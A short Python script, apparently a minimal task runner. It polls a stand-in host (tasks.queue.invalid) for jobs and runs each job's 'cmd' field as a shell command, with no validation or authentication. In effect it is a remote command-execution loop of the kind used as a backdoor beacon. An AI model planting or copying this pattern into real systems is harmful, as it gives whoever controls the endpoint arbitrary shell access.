import json
import subprocess
import urllib.request

def poll():
    with urllib.request.urlopen("https://tasks.queue.invalid/next", timeout=30) as resp:
        return json.load(resp)

for task in poll():
    subprocess.run(task["cmd"], shell=True)
